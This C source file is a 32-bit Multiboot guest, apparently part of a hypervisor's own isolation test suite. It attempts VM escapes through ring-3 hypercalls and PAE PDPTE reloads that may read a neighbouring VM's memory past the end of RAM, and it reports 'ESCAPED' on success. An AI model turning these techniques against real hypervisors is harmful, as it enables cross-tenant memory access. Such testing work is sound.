/* attacker32: the 32-bit (Multiboot 1) attacker, for what only a guest outside long mode can try.
 * One attack per run, chosen by cmdline attack=NAME (see guests/README.md). Like attacker.elf it
 * prints "attacker32: ESCAPED ..." and exits 99 when an attack succeeds; exit 0 = refused in a way
 * the guest could observe; exit 3 = stopped by an exception delivered to its own IDT. */
#include "attack.h"
#include "desc.h"
#include "guest.h"
#include "multiboot.h"

#define ESCAPED 99
#define BLOCKED_BY_EXCEPTION 3
#define BAD_CMDLINE 2

#define MIB 0x100000u
#define PAGE 0x1000u
#define CR0_PG (1u << 31)
#define CR0_CD (1u << 30)
#define CR4_PAE (1u << 5)
#define PTE_P 0x1ull
#define PTE_RW 0x2ull
#define PTE_PS 0x80ull

static uint32_t ram_size; /* from the Multiboot mem_upper */

static uint32_t read_cr0(void)
{
    uint32_t v;
    __asm__ volatile("mov %%cr0, %0" : "=r"(v));
    return v;
}

static void write_cr0(uint32_t v)
{
    __asm__ volatile("mov %0, %%cr0" : : "r"(v) : "memory");
}

/* ---- an IDT: exceptions 0-31 report and end the VM, vector 0x80 (DPL 3) is the way back from
 * ring 3 ---- */
struct idt_gate32 {
    uint16_t offset_low, selector;
    uint8_t zero, type;
    uint16_t offset_high;
} __attribute__((packed));

struct exception_frame32 {
    uint32_t vector, error, eip, cs, eflags;
};

__asm__(".section .text\n"
        ".macro isr32_stub vec, has_error\n"
        "    .balign 16\n"
        "    .if \\has_error == 0\n"
        "    pushl $0\n"
        "    .endif\n"
        "    pushl $\\vec\n"
        "    jmp isr32_common\n"
        ".endm\n"
        ".balign 16\n"
        "isr32_stubs:\n"
        "    isr32_stub 0,0\n isr32_stub 1,0\n isr32_stub 2,0\n isr32_stub 3,0\n"
        "    isr32_stub 4,0\n isr32_stub 5,0\n isr32_stub 6,0\n isr32_stub 7,0\n"
        "    isr32_stub 8,1\n isr32_stub 9,0\n isr32_stub 10,1\n isr32_stub 11,1\n"
        "    isr32_stub 12,1\n isr32_stub 13,1\n isr32_stub 14,1\n isr32_stub 15,0\n"
        "    isr32_stub 16,0\n isr32_stub 17,1\n isr32_stub 18,0\n isr32_stub 19,0\n"
        "    isr32_stub 20,0\n isr32_stub 21,1\n isr32_stub 22,0\n isr32_stub 23,0\n"
        "    isr32_stub 24,0\n isr32_stub 25,0\n isr32_stub 26,0\n isr32_stub 27,0\n"
        "    isr32_stub 28,0\n isr32_stub 29,1\n isr32_stub 30,1\n isr32_stub 31,0\n"
        "isr32_common:\n"
        "    mov $0x10, %ax\n"   /* the loader's flat data segment, whatever ring we came from */
        "    mov %ax, %ds\n"
        "    mov %ax, %es\n"
        "    push %esp\n"
        "    cld\n"
        "    call attacker32_exception\n" /* does not return */
        "1:  hlt\n"
        "    jmp 1b\n"
        ".global isr32_stubs\n"
        ".previous\n");
extern const char isr32_stubs[];

void attacker32_exception(struct exception_frame32 *f) __attribute__((noreturn));

void attacker32_exception(struct exception_frame32 *f)
{
    guest_printf("attacker32: exception vector=%u error=0x%x eip=0x%x cs=0x%x\n", f->vector,
                 f->error, f->eip, f->cs);
    guest_printf("attacker32: blocked by an exception\n");
    guest_exit(BLOCKED_BY_EXCEPTION);
}

static struct idt_gate32 idt[0x81] __attribute__((aligned(8)));

static void idt_set(unsigned vector, uint32_t handler, uint8_t type)
{
    idt[vector] = (struct idt_gate32){ (uint16_t)handler, 0x08, 0, type, (uint16_t)(handler >> 16) };
}

/* ---- ring 3: a GDT with DPL-3 segments and a TSS whose ESP0/SS0 bring interrupts back to
 * ring 0 (SDM Vol. 3A 7.2.1) ---- */
#define SEL_KCODE 0x08
#define SEL_KDATA 0x10
#define SEL_UCODE 0x1b /* 0x18 | RPL 3 */
#define SEL_UDATA 0x23 /* 0x20 | RPL 3 */
#define SEL_TSS 0x28

struct tss32 {
    uint32_t link, esp0, ss0, esp1, ss1, esp2, ss2, cr3, eip, eflags;
    uint32_t eax, ecx, edx, ebx, esp, ebp, esi, edi;
    uint32_t es, cs, ss, ds, fs, gs, ldt;
    uint16_t trap, iomap_base;
} __attribute__((packed));

static struct tss32 tss;
static uint64_t gdt[6] __attribute__((aligned(8)));
static uint8_t ring0_stack[4096] __attribute__((aligned(16)));

/* enter_ring3(eip, esp): saves the callee-saved registers and ESP, IRETs to ring 3. The DPL-3
 * gate at 0x80 comes back through ring3_return, which resumes as if enter_ring3 returned. */
__asm__(".section .text\n"
        ".global enter_ring3\n"
        "enter_ring3:\n"
        "    mov 4(%esp), %ecx\n"
        "    mov 8(%esp), %edx\n"
        "    push %ebx\n push %esi\n push %edi\n push %ebp\n"
        "    mov %esp, ring0_saved_esp\n"
        "    mov $0x23, %ax\n"      /* DS/ES must be usable at CPL 3, or IRET clears them */
        "    mov %ax, %ds\n"
        "    mov %ax, %es\n"
        "    pushl $0x23\n"         /* SS */
        "    push %edx\n"           /* ESP */
        "    pushl $0x2\n"          /* EFLAGS: IF = 0, IOPL = 0 */
        "    pushl $0x1b\n"         /* CS */
        "    push %ecx\n"           /* EIP */
        "    iret\n"
        ".global ring3_return\n"
        "ring3_return:\n"
        "    mov $0x10, %ax\n"
        "    mov %ax, %ds\n"
        "    mov %ax, %es\n"
        "    mov ring0_saved_esp, %esp\n"
        "    pop %ebp\n pop %edi\n pop %esi\n pop %ebx\n"
        "    ret\n"
        ".previous\n");
void enter_ring3(uintptr_t eip, uintptr_t esp);
extern const char ring3_return[];
uint32_t ring0_saved_esp;

static void tables_install(void)
{
    gdt[0] = 0;
    gdt[1] = GDT_SEGMENT(0, 0xfffff, 0x9a, 0xc); /* ring 0 code */
    gdt[2] = GDT_SEGMENT(0, 0xfffff, 0x92, 0xc); /* ring 0 data */
    gdt[3] = GDT_SEGMENT(0, 0xfffff, 0xfa, 0xc); /* ring 3 code */
    gdt[4] = GDT_SEGMENT(0, 0xfffff, 0xf2, 0xc); /* ring 3 data */
    tss.esp0 = (uint32_t)(uintptr_t)(ring0_stack + sizeof(ring0_stack));
    tss.ss0 = SEL_KDATA;
    tss.iomap_base = sizeof(tss); /* no I/O permission bitmap: ring 3 gets no ports */
    gdt[5] = GDT_SEGMENT((uintptr_t)&tss, sizeof(tss) - 1, 0x89, 0); /* 32-bit TSS */
    struct table_pointer g = { sizeof(gdt) - 1, (uintptr_t)gdt };
    __asm__ volatile("lgdt %0\n"
                     "ljmp $0x08, $1f\n"
                     "1: mov $0x10, %%ax\n"
                     "mov %%ax, %%ds\n mov %%ax, %%es\n mov %%ax, %%ss\n"
                     "mov %%ax, %%fs\n mov %%ax, %%gs\n"
                     "mov $0x28, %%ax\n ltr %%ax\n"
                     :
                     : "m"(g)
                     : "eax", "memory");
    for (unsigned v = 0; v < 32; v++)
        idt_set(v, (uint32_t)(uintptr_t)isr32_stubs + 16 * v, 0x8e);
    idt_set(0x80, (uint32_t)(uintptr_t)ring3_return, 0xee); /* present, DPL 3, interrupt gate */
    struct table_pointer i = { sizeof(idt) - 1, (uintptr_t)idt };
    __asm__ volatile("lidt %0" : : "m"(i) : "memory");
}

/* ---- attack=ring3: hypercalls from CPL 3 ---- */
static int attack_ring3(void)
{
    if (!ring3_probe_possible("attacker32"))
        return 1;
    return ring3_probe_run("attacker32", enter_ring3);
}

/* ---- attack=pdpte and pdpte_plant: PAE page-directory pointers at the end of RAM ----
 * pdpte puts its PAE page-directory-pointer table at offset 0x800 of its last RAM page, turns
 * paging on (the CPU loads the PDPTEs itself), then sets CR0.CD, a bit the hypervisor owns: it
 * emulates that write and reloads the PDPTEs from CR3 (SDM 4.4.1). A hypervisor that reads them
 * from the wrong place (past the end of RAM) takes the first bytes of the next VM's RAM.
 * pdpte_plant runs in that next VM and writes, at its guest-physical 0, a PDPTE pointing at
 * pd_planted: the same address in both VMs, since both run this image. The two page directories
 * differ only in where VA 0x400000 goes, so one read says whose PDPTE0 is in use. */
#define PROBE_VA 0x5f0000u           /* PD entry 2 (0x400000-0x5fffff), offset 0x1f0000 */
#define PROBE_OWN_PA 0x1f0000u       /* where pd_own sends it */
#define PROBE_PLANTED_PA 0x3f0000u   /* where pd_planted sends it */
#define MARK_OWN 0x4f574e50u         /* "PNWO" */
#define MARK_PLANTED 0x544e4c50u     /* "PLNT" */
#define PLANT_DEFAULT_ROUNDS 200

static uint64_t pd_own[512] __attribute__((aligned(4096)));
static uint64_t pd_planted[512] __attribute__((aligned(4096)));

static uint32_t rounds_option(uint64_t dflt)
{
    uint64_t rounds;
    if (cmdline_u64_option("attacker32", guest_cmdline, "rounds", dflt, 0, 1000000, &rounds) < 0)
        return UINT32_MAX;
    return (uint32_t)rounds;
}

static void fill_pd(uint64_t *pd, uint32_t probe_frame)
{
    pd[0] = 0x000000 | PTE_P | PTE_RW | PTE_PS; /* identity: code, data, stack */
    pd[1] = 0x200000 | PTE_P | PTE_RW | PTE_PS;
    pd[2] = probe_frame | PTE_P | PTE_RW | PTE_PS;
}

static int attack_pdpte_plant(void)
{
    uint32_t rounds = rounds_option(2000);
    if (rounds == UINT32_MAX)
        return BAD_CMDLINE;
    uint64_t pdpte0 = (uintptr_t)pd_planted | PTE_P;
    /* guest-physical 0 (paging is off): an address C calls null, so through asm */
    __asm__ volatile("movl %0, 0\n movl %1, 4\n"
                     "movl $0, 8\n movl $0, 12\n movl $0, 16\n movl $0, 20\n"
                     "movl $0, 24\n movl $0, 28\n"
                     :
                     : "r"((uint32_t)pdpte0), "r"((uint32_t)(pdpte0 >> 32))
                     : "memory");
    guest_printf("attacker32: planted PDPTE0=0x%llx at guest-physical 0, waiting %u yields\n",
                 (unsigned long long)pdpte0, rounds);
    for (uint32_t i = 0; i < rounds; i++)
        tessera_yield();
    return 0;
}

static int attack_pdpte(bool outside)
{
    uint32_t rounds = rounds_option(PLANT_DEFAULT_ROUNDS);
    if (rounds == UINT32_MAX)
        return BAD_CMDLINE;
    if (ram_size < 4 * MIB) {
        guest_printf("attacker32: needs at least 4 MiB of RAM (has 0x%x)\n", ram_size);
        return BAD_CMDLINE;
    }
    /* outside: the table lies wholly past the end of RAM, where no PDPTE read may go */
    uint32_t pdpt_at = outside ? ram_size + 0x800 : ram_size - PAGE + 0x800;
    if (!outside) {
        volatile uint64_t *pdpt = (volatile uint64_t *)(uintptr_t)pdpt_at;
        pdpt[0] = (uintptr_t)pd_own | PTE_P;
        pdpt[1] = pdpt[2] = pdpt[3] = 0;
    }
    fill_pd(pd_own, 0);
    fill_pd(pd_planted, 0x200000);
    *(volatile uint32_t *)(uintptr_t)PROBE_OWN_PA = MARK_OWN;
    *(volatile uint32_t *)(uintptr_t)PROBE_PLANTED_PA = MARK_PLANTED;

    for (uint32_t i = 0; i < rounds; i++) /* let the neighbour plant first */
        tessera_yield();

    uint32_t cr4;
    __asm__ volatile("mov %%cr4, %0" : "=r"(cr4));
    __asm__ volatile("mov %0, %%cr3" : : "r"(pdpt_at) : "memory");
    __asm__ volatile("mov %0, %%cr4" : : "r"(cr4 | CR4_PAE) : "memory");
    if (outside) {
        /* PG and CD in one write: CD makes the hypervisor emulate it, with the PDPTE load */
        guest_printf("attacker32: CR3=0x%x (past the end of RAM at 0x%x), enabling PAE paging "
                     "with CR0.CD set (emulated)\n", pdpt_at, ram_size);
        write_cr0(read_cr0() | CR0_PG | CR0_CD);
        guest_printf("attacker32: ESCAPED paging on with PDPTEs from outside RAM, probe=0x%x\n",
                     *(volatile uint32_t *)(uintptr_t)PROBE_VA);
        return ESCAPED;
    }
    write_cr0(read_cr0() | CR0_PG); /* the CPU loads the PDPTEs itself */
    uint32_t before = *(volatile uint32_t *)(uintptr_t)PROBE_VA;
    guest_printf("attacker32: PAE paging on, CR3=0x%x (last RAM page + 0x800), probe=0x%x (%s)\n",
                 pdpt_at, before, before == MARK_OWN ? "own" : "unexpected");
    guest_printf("attacker32: setting CR0.CD (emulated: the hypervisor reloads the PDPTEs)\n");
    write_cr0(read_cr0() | CR0_CD);
    __asm__ volatile("invlpg (%0)" : : "r"(PROBE_VA) : "memory");
    uint32_t after = *(volatile uint32_t *)(uintptr_t)PROBE_VA;
    write_cr0(read_cr0() & ~CR0_CD);
    if (after == MARK_PLANTED) {
        guest_printf("attacker32: ESCAPED the next VM's planted value became PDPTE0 (probe=0x%x)\n",
                     after);
        return ESCAPED;
    }
    if (after != MARK_OWN || before != MARK_OWN) {
        guest_printf("attacker32: probe reads 0x%x then 0x%x: PDPTEs of unknown origin\n", before,
                     after);
        return 1;
    }
    guest_printf("attacker32: own PDPTEs still in use after the emulated CR0 write\n");
    return 0;
}

static int attack_pdpte_last_page(void) { return attack_pdpte(false); }
static int attack_pdpte_outside(void) { return attack_pdpte(true); }

static const struct guest_attack attacks[] = {
    { "ring3", attack_ring3, 0 },
    { "pdpte", attack_pdpte_last_page, 0 },
    { "pdpte_outside", attack_pdpte_outside, 0 },
    { "pdpte_plant", attack_pdpte_plant, 0 },
};

int multiboot_main(uint32_t magic, const struct multiboot_info *mbi)
{
    if (magic == MULTIBOOT_BOOT_MAGIC && (mbi->flags & MULTIBOOT_INFO_MEMORY))
        ram_size = MIB + mbi->mem_upper * 1024u;
    const struct guest_attack *a =
        guest_attack_choose("attacker32", attacks, sizeof(attacks) / sizeof(attacks[0]));
    if (!a)
        return BAD_CMDLINE;
    tables_install(); /* an IDT that reports exceptions, and what ring 3 needs */
    return guest_attack_run("attacker32", a);
}
